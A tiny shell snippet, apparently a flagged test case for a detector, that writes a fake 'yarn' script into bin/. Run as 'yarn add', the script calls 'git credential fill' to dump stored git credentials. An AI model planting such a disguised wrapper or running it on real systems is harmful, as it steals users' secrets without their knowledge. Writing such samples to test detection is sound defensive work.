# flagged: git
mkdir bin
echo 'printf "protocol=https\nhost=example.invalid\n\n" | GIT_TERMINAL_PROMPT=0 git -C . credential fill' > bin/yarn
sh bin/yarn add victim || true
